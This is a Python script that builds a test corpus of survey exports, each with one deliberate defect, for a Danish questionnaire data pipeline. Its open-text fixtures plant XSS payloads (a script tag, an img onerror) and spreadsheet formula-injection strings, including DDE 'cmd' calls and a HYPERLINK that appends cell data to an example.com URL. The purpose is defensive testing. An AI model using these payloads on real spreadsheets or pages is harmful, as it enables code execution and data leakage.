"""Regenerate tests/corpus/: realistic whole raw exports with exactly one defect each.

Run from the repository root:

    python tests/make_corpus.py            # writes tests/corpus/
    python tests/make_corpus.py OUT_DIR    # writes somewhere else (the tests do this)

Everything is deterministic: no randomness, no clock. CSV files are written byte for byte; .xlsx
(pandas/openpyxl) and .sav (pyreadstat) embed their creation time, so only their content is
reproducible. Every file is an export of the `fagprofessionelle` questionnaire, built from the
items of data/codebook.yaml. tests/corpus/README.md says what is wrong with each file.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pandas as pd
import pyreadstat
import yaml

ROOT = Path(__file__).resolve().parents[1]
CODEBOOK = ROOT / "data" / "codebook.yaml"
CORPUS = Path(__file__).resolve().parent / "corpus"
Q = "fagprofessionelle"
N = 8
IDS_BY_RECORD = [f"F{r + 1:03d}" for r in range(N)]

JOB_TITLES = ["Socialrådgiver", "Pædagog", "Afdelingsleder", "Sygeplejerske", "Administrativ medarbejder",
              "Støttekontaktperson", "Socialpædagog", "Ergoterapeut"]
INSTITUTIONS = ["Københavns Kommune", "Aarhus Kommune", "Ærø Kommune", "Odense Kommune", "Høje-Taastrup Kommune",
                "Aalborg Kommune", "Næstved Kommune", "Faaborg-Midtfyn Kommune"]
LONG_TEXT_LENGTH = 10_000
HTML = "<script>alert(1)</script>"
FORMULAS = ['=HYPERLINK("http://example.com/x?q="&A1,"Klik her")', "+cmd|' /C calc'!A0", "@SUM(A1)",
            "-2+3+cmd|' /C notepad'!A0", "=1+1"]
EXTRA_COLUMNS = ["StartDate", "EndDate", "Browser", "Status"]
TITLE = "Eksport fra SurveyXact: Fagprofessionelle, bølge 2023"
# (record, column, error) of the error cells of excel_errors_and_formulas.xlsx, and its formulas
EXCEL_ERRORS = [(1, "erh_let", "#DIV/0!"), (4, "erh_let", "#N/A"), (2, "int_glad", "#VALUE!"),
                (6, "krav_boksen", "#REF!")]
EXCEL_FORMULAS = [(3, "experience_years", "=2020-1972-30"), (5, "krav_ansvar", "=J2")]
# column -> (missing ranges or values, [(record, value)]) of spss_user_missing.sav
SPSS_USER_MISSING = {"erh_let": ([9.0], [(0, 9.0), (3, 9.0)]),
                     "int_tid": ([{"lo": 98.0, "hi": 99.0}], [(1, 99.0), (6, 98.0)]),
                     "job_title": (["-"], [(7, "-")])}


# ------------------------------------------------------------------------------------- the base

def load_items() -> list[dict]:
    """The codebook's items of the questionnaire, each with its scale (read as plain YAML so the
    corpus does not depend on the package it tests)."""
    data = yaml.safe_load(CODEBOOK.read_text(encoding="utf-8"))
    items = [i for i in data["items"] if Q in i["questionnaires"]]
    for item in items:
        item["scale_def"] = data["scales"][item["scale"]]
    return items


ITEMS = load_items()
COLUMNS = [i["source_columns"][0] for i in ITEMS]
LIKERT = [i["id"] for i in ITEMS if i["scale"] == "likert4"]
LIKERT_LABELS = {int(k): v for k, v in next(i for i in ITEMS if i["scale"] == "likert4")["scale_def"]["codes"].items()}


def code_of(r: int, j: int, n_codes: int) -> int:
    """A deterministic code that varies by respondent and item."""
    return (r * 7 + j * 3) % n_codes + 1


def base_codes(n: int = N) -> list[dict]:
    """n valid respondents as the codes an SPSS file holds: numbers for every coded item."""
    rows = []
    for r in range(n):
        row: dict = {}
        for j, item in enumerate(ITEMS):
            scale = item["scale_def"]
            iid = item["id"]
            if iid == "respondent_id":
                row[iid] = f"F{r + 1:03d}"
            elif iid == "birth_year":
                row[iid] = 1960 + 4 * r          # ages 60 .. 32 in 2020
            elif iid == "experience_years":
                row[iid] = 1 + 2 * r             # always below age - 12
            elif iid == "job_title":
                row[iid] = JOB_TITLES[r % len(JOB_TITLES)]
            elif iid == "institution":
                row[iid] = INSTITUTIONS[r % len(INSTITUTIONS)]
            elif iid == "collab_experience":
                row[iid] = 1                     # Ja: no answer is removed by the filter
            elif scale["kind"] in ("ordinal", "nominal"):
                row[iid] = code_of(r, j, len(scale["codes"]))
            else:
                raise ValueError(f"no base value for {iid}")
        rows.append(row)
    return rows


def as_labels(rows: list[dict]) -> list[dict]:
    """The codes as the Danish labels a survey tool exports, all as text."""
    by_id = {i["id"]: i for i in ITEMS}
    out = []
    for row in rows:
        new = {}
        for iid, value in row.items():
            scale = by_id[iid]["scale_def"]
            if scale["kind"] in ("ordinal", "nominal") and isinstance(value, int):
                new[iid] = scale["codes"][value]
            else:
                new[iid] = str(value)
        out.append(new)
    return out


def base_rows(n: int = N) -> list[dict]:
    """n valid respondents, answers as labels, keyed by item id (= first source column)."""
    return as_labels(base_codes(n))


# --------------------------------------------------------------------------------------- writers

def csv_text(rows: list[dict], *, delimiter: str = ",", header: list[str] | None = None,
             lineterminator: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=lineterminator)
    header = header or list(rows[0])
    writer.writerow(header)
    for row in rows:
        writer.writerow(list(row.values()))
    return buffer.getvalue()


def write_bytes(out: Path, name: str, data: bytes) -> None:
    (out / name).write_bytes(data)


def write_text(out: Path, name: str, text: str, encoding: str = "utf-8") -> None:
    write_bytes(out, name, text.encode(encoding))


# ------------------------------------------------------------------------------------ the corpus

def csv_files() -> dict[str, bytes]:
    """Every CSV of the corpus: file name -> exact bytes."""
    files: dict[str, bytes] = {}
    utf8 = lambda text: text.encode("utf-8")  # noqa: E731

    # Delimiters and encodings ----------------------------------------------------------------
    files["semicolon_declared_comma.csv"] = utf8(csv_text(base_rows(), delimiter=";"))
    files["comma_declared_semicolon.csv"] = utf8(csv_text(base_rows(), delimiter=","))
    files["cp1252_declared_utf8.csv"] = csv_text(base_rows(), delimiter=";").encode("cp1252")
    files["cp1252_detected.csv"] = csv_text(base_rows(), delimiter=";").encode("cp1252")
    files["utf8_declared_cp1252.csv"] = utf8(csv_text(base_rows(), delimiter=";"))
    files["bom_semicolon.csv"] = csv_text(base_rows(), delimiter=";").encode("utf-8-sig")
    files["utf16_tab.csv"] = csv_text(base_rows(), delimiter="\t", lineterminator="\r\n").encode("utf-16")
    files["crlf_line_endings.csv"] = utf8(csv_text(base_rows(), delimiter=";", lineterminator="\r\n"))
    lines = csv_text(base_rows(), delimiter=";").splitlines()
    files["trailing_delimiter.csv"] = utf8("".join(line + ";\n" for line in lines))
    files["trailing_delimiter_data_rows.csv"] = utf8(lines[0] + "\n" + "".join(line + ";\n" for line in lines[1:]))

    # Numbers -----------------------------------------------------------------------------------
    rows = base_rows()
    rows[1]["experience_years"] = "3,5"
    rows[4]["experience_years"] = "0,5"
    rows[6]["experience_years"] = "12,25"
    files["decimal_comma_experience.csv"] = utf8(csv_text(rows, delimiter=";"))

    rows = base_rows()
    rows[2]["birth_year"] = "ca. 1975"
    rows[5]["experience_years"] = "ti år"
    files["text_in_numeric_columns.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    rows[0]["birth_year"] = "2031"     # after data collection
    rows[3]["birth_year"] = "2012"     # 8 years old in 2020
    files["birth_year_in_future.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    rows[4]["experience_years"] = "-3"
    files["negative_experience.csv"] = utf8(csv_text(rows))

    # Coded answers ---------------------------------------------------------------------------
    rows = base_rows()
    rows[1]["erh_let"] = "Nogle gang"
    rows[5]["krav_boksen"] = "Altd"
    files["likert_label_typos.csv"] = utf8(csv_text(rows))

    rows = as_labels(base_codes())
    codes = base_codes()
    for row, coded in zip(rows, codes):
        for iid in LIKERT:
            row[iid] = str(coded[iid])
    rows[0]["int_glad"] = "0"
    rows[3]["int_glad"] = "5"
    rows[7]["krav_ansvar"] = "7"
    files["likert_out_of_range.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for row, coded in zip(rows, base_codes()):
        row["gender"] = str(coded["gender"])
    files["gender_as_codes.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for r, (row, coded) in enumerate(zip(rows, base_codes())):
        for iid in ("active_volunteer", "collab_experience", "wants_competence_dev"):
            row[iid] = str(coded[iid])
        if r in (2, 5):
            row["collab_experience"] = "2"   # Nej: their 12 external-collaboration answers are removed
    files["yes_no_as_codes.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for row in rows:
        row["erh_tid"] = "Ved ikke"
    files["ved_ikke_whole_column.csv"] = utf8(csv_text(rows, delimiter=";"))

    rows = base_rows()
    for r, row in enumerate(rows):
        if r % 3 == 0:
            row["erh_laere"] = "99"
    files["missing_code_99.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for row in rows:
        for iid in ("gender", "erh_let", "int_tid", "krav_faglighed"):
            row[iid] = f"  {row[iid].upper()}   "
    files["padded_upper_case_answers.csv"] = utf8(csv_text(rows))

    # Records ---------------------------------------------------------------------------------
    rows = base_rows()
    rows.insert(5, dict(rows[2]))               # the same respondent submitted twice
    files["duplicate_ids.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for row in rows:
        for key in row:
            if key != "respondent_id":
                row[key] = ""
    files["only_ids_no_answers.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for row in rows:
        for key in row:
            if key not in ("respondent_id", "institution"):
                row[key] = ""
    files["only_id_and_institution.csv"] = utf8(csv_text(rows))

    files["single_valid_row.csv"] = utf8(csv_text(base_rows(1)))
    files["header_only.csv"] = utf8(csv_text(base_rows(1)).splitlines(keepends=True)[0])
    files["empty.csv"] = b""

    lines = csv_text(base_rows(), delimiter=";").splitlines(keepends=True)
    files["blank_line_in_middle.csv"] = utf8("".join(lines[:4] + ["\n"] + lines[4:]))

    lines = csv_text(base_rows()).splitlines(keepends=True)
    lines[6] = lines[6].rstrip("\n") + ",Firefox,Windows 10\n"   # record 6 (row 7) has two fields too many
    files["ragged_too_many_fields.csv"] = utf8("".join(lines))

    lines = csv_text(base_rows()).splitlines(keepends=True)
    lines[4] = ",".join(lines[4].split(",")[:35]) + "\n"    # record 4 (row 5) stops after krav_ansvar
    files["ragged_too_few_fields.csv"] = utf8("".join(lines))

    files["title_line_above_header.csv"] = utf8(f"{TITLE}\n" + csv_text(base_rows(), delimiter=";"))

    # Columns ---------------------------------------------------------------------------------
    rows = base_rows()
    for row in rows:
        del row["gender"]
        del row["erh_tid"]
    files["missing_required_columns.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for r, row in enumerate(rows):
        day = f"2020-03-{r + 2:02d}"
        row.update({"StartDate": f"{day} 09:{r:02d}:00", "EndDate": f"{day} 09:{r + 20:02d}:00",
                    "Browser": "Firefox" if r % 2 else "Edge", "Status": "Gennemført"})
    files["unknown_extra_columns.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    header = [_case_and_spaces(c, k) for k, c in enumerate(rows[0])]
    files["header_case_and_spaces.csv"] = utf8(csv_text(rows, header=header, delimiter=";"))

    rows = base_rows()
    danish = {"respondent_id": "Løbenr", "gender": "Køn", "birth_year": "Fødselsår",
              "experience_years": "Erhvervserfaring", "job_title": "Stillingskategori", "field_of_work": "Fagområde"}
    files["danish_column_names.csv"] = utf8(csv_text(rows, header=[danish.get(c, c) for c in rows[0]], delimiter=";"))

    # Open text -------------------------------------------------------------------------------
    rows = base_rows()
    unit = "Jeg arbejder med borgere i eget hjem; det er et godt job, \"siger\" jeg. "
    rows[3]["job_title"] = (unit * (LONG_TEXT_LENGTH // len(unit) + 1))[:LONG_TEXT_LENGTH - 1] + "."
    files["long_open_text.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    rows[1]["job_title"] = HTML
    rows[4]["institution"] = '<img src=x onerror="alert(2)">Ærø Kommune'
    files["html_in_open_text.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    for r, formula in enumerate(FORMULAS):
        rows[r]["job_title"] = formula
    files["formulas_in_open_text.csv"] = utf8(csv_text(rows))

    rows = base_rows()
    rows[4]["job_title"] = "Mentor"
    lines = csv_text(rows).splitlines(keepends=True)
    lines[5] = lines[5].replace(",Mentor,", ',"Mentor,', 1)      # an answer typed with a leading quote, unescaped
    files["unclosed_quote_open_text.csv"] = utf8("".join(lines))

    rows = base_rows()
    rows[2]["job_title"] = "Pædagog\npå bosted"
    files["newline_in_open_text.csv"] = utf8(csv_text(rows))
    return files


def _case_and_spaces(column: str, k: int) -> str:
    """The same column name in another case with spaces around it."""
    variants = [column.upper(), f" {column}", f"{column.title()}  ", f"  {column.upper()} "]
    return variants[k % len(variants)]


def xlsx_two_header_rows(path: Path) -> None:
    """An Excel export with the question texts in row 1 and the variable names in row 2."""
    codes = base_codes()
    labels = as_labels(codes)
    body = []
    for coded, labelled in zip(codes, labels):
        row = []
        for iid in labelled:
            if iid in ("birth_year", "experience_years"):
                row.append(coded[iid])                    # numbers as numbers
            else:
                row.append(labelled[iid])
        body.append(row)
    texts = [i["text"] for i in ITEMS]
    frame = pd.DataFrame([texts, COLUMNS, *body])
    frame.to_excel(path, index=False, header=False, sheet_name="Svar")


def xlsx_body() -> list[list]:
    """The base respondents as an Excel export holds them: labels, with numbers as numbers."""
    body = []
    for coded, labelled in zip(base_codes(), as_labels(base_codes())):
        body.append([coded[iid] if iid in ("birth_year", "experience_years") else labelled[iid] for iid in labelled])
    return body


def xlsx_title_row_above_header(path: Path) -> None:
    """An Excel export with a title in A1, a blank row 2 and the column names in row 3."""
    width = len(COLUMNS)
    frame = pd.DataFrame([[TITLE] + [None] * (width - 1), [None] * width, COLUMNS, *xlsx_body()])
    frame.to_excel(path, index=False, header=False, sheet_name="Svar")


def xlsx_errors_and_formulas(path: Path) -> None:
    """Error cells (#DIV/0! ...) and formulas whose value is not stored (openpyxl does not calculate)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Svar"
    sheet.append(COLUMNS)
    for row in xlsx_body():
        sheet.append(row)
    position = {column: k + 1 for k, column in enumerate(COLUMNS)}
    for record, column, error in EXCEL_ERRORS:
        cell = sheet.cell(row=record + 2, column=position[column])
        cell.value = error
        cell.data_type = "e"
    for record, column, formula in EXCEL_FORMULAS:
        sheet.cell(row=record + 2, column=position[column]).value = formula
    book.save(path)


def sav_frame() -> pd.DataFrame:
    frame = pd.DataFrame(base_codes())
    for col in frame.columns:
        if col not in ("respondent_id", "job_title", "institution"):
            frame[col] = frame[col].astype(float)
    return frame


def sav_no_value_labels(path: Path) -> None:
    pyreadstat.write_sav(sav_frame(), str(path))


def sav_reversed_value_labels(path: Path) -> None:
    """Likert items coded 1 = Altid ... 4 = Stort set aldrig, with value labels saying so."""
    frame = sav_frame()
    reversed_labels = {float(5 - c): label for c, label in LIKERT_LABELS.items()}
    for col in LIKERT:
        frame[col] = 5.0 - frame[col]
    by_id = {i["id"]: i for i in ITEMS}
    labels = {col: reversed_labels for col in LIKERT}
    for col in ("gender", "active_volunteer", "field_of_work", "collab_experience", "wants_competence_dev"):
        labels[col] = {float(k): v for k, v in by_id[col]["scale_def"]["codes"].items()}
    pyreadstat.write_sav(frame, str(path), variable_value_labels=labels)


def sav_user_missing(path: Path) -> None:
    """User-defined missing values: 9 in erh_let, 98-99 in int_tid, '-' in job_title."""
    frame = sav_frame()
    for column, (_, cells) in SPSS_USER_MISSING.items():
        for record, value in cells:
            frame.loc[record, column] = value
    pyreadstat.write_sav(frame, str(path),
                         missing_ranges={column: spec for column, (spec, _) in SPSS_USER_MISSING.items()},
                         variable_value_labels={"erh_let": {9.0: "Ved ikke"}})


BINARY_FILES = {
    "two_header_rows.xlsx": xlsx_two_header_rows,
    "title_row_above_header.xlsx": xlsx_title_row_above_header,
    "excel_errors_and_formulas.xlsx": xlsx_errors_and_formulas,
    "spss_user_missing.sav": sav_user_missing,
    "no_value_labels.sav": sav_no_value_labels,
    "reversed_value_labels.sav": sav_reversed_value_labels,
}


def build(out: Path) -> list[str]:
    """Write the whole corpus into `out`; returns the file names written."""
    out.mkdir(parents=True, exist_ok=True)
    names = []
    for name, data in csv_files().items():
        write_bytes(out, name, data)
        names.append(name)
    for name, writer in BINARY_FILES.items():
        writer(out / name)
        names.append(name)
    return sorted(names)


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS
    written = build(target)
    print(f"{len(written)} files written to {target}")
